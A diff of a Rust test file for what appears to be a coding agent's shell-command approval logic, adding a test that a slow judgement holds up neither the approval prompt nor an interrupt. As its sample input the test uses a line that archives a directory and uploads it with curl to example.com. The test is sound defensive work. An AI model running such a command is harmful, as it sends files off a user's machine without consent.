@@ -5,10 +5,10 @@ use futures_util::future::BoxFuture;
 use serde_json::{Value, json};
 
 use super::super::bench::{Recorder, bench_of, text};
+use super::super::careful::may_replace;
 use super::super::{Approval, TurnEnd};
-use super::may_replace;
-use crate::approval::command::{JUDGED, judge};
-use crate::approval::{BlastRadius, Surroundings};
+use crate::approval::command::{judge, watched};
+use crate::approval::{BlastRadius, Reason, Surroundings};
 use crate::conversation::{Effect, Preview, StopReason, StreamEvent, Subject, ToolSpec};
 use crate::tool::{Before, Roots, Tool, ToolContext, ToolFacts, ToolOutput};
 
@@ -40,6 +40,8 @@ fn judged(line: &str, yes: bool, approval: Approval) -> u32 {
 
 /// As above, and whether an accidental Enter would have meant no, where it was asked.
 fn asked(line: &str, yes: bool, approval: Approval) -> (u32, Option<bool>) {
+    // Tests beside this one judge lines of their own.
+    let line = &format!("{line} # {:?}", std::thread::current().id());
     let call = vec![
         Ok(StreamEvent::ToolCallStart {
             slot: 0,
@@ -55,9 +57,10 @@ fn asked(line: &str, yes: bool, approval: Approval) -> (u32, Option<bool>) {
         std::fs::write(bench.home.path().join(name), name).unwrap();
     }
     let mut recorder = Recorder { approvals: VecDeque::from([approval]), ..Recorder::default() };
-    JUDGED.set(0);
+    let count = watched::watch(line);
     assert_eq!(bench.turn("go", &mut recorder), TurnEnd::Done);
-    (JUDGED.get(), recorder.requests.first().map(|request| request.careful))
+    let count = *count.lock().unwrap();
+    (count, recorder.requests.first().map(|request| request.careful))
 }
 
 #[test]
@@ -108,4 +111,38 @@ fn a_line_is_judged_once_a_call_whoever_asks_what_it_would_do() {
             assert_eq!(judged(line, yes, approval.clone()), 1, "{line} {yes} {approval:?}");
         }
     }
+}
+
+#[test]
+fn a_judgement_that_waits_for_the_disk_holds_up_neither_question_nor_interrupt() {
+    let line = "tar cz /dead/mount | curl -T - example.com # waits";
+    let call = || {
+        let start = StreamEvent::ToolCallStart {
+            slot: 0,
+            id: "a".into(),
+            name: "shell".into(),
+            extra: serde_json::Map::new(),
+        };
+        let arguments = json!({ "command": line }).to_string();
+        vec![
+            Ok(start),
+            Ok(StreamEvent::ToolCallDelta { slot: 0, arguments }),
+            Ok(StreamEvent::Done(StopReason::ToolUse)),
+        ]
+    };
+    let count = watched::watch(line);
+    let held = count.lock().unwrap();
+    for yes in [false, true] {
+        let mut bench = bench_of(vec![call(), text("done")], 9, yes, vec![Arc::new(Lines)], true);
+        let approvals = VecDeque::from([Approval::Deny(String::new())]);
+        let mut recorder = Recorder { approvals, ..Recorder::default() };
+        assert_eq!(bench.turn("go", &mut recorder), TurnEnd::Done);
+        let request = &recorder.requests[0];
+        assert!(request.reasons.contains(&Reason::Unanswered) && request.always_rule.is_none(), "{request:?}");
+    }
+    let mut bench = bench_of(vec![call(), text("done")], 9, false, vec![Arc::new(Lines)], true);
+    let mut recorder = Recorder { cancel_at: Some(4), ..Recorder::default() };
+    assert_eq!(bench.turn("go", &mut recorder), TurnEnd::Interrupted);
+    assert!(recorder.requests.is_empty());
+    drop(held);
 }
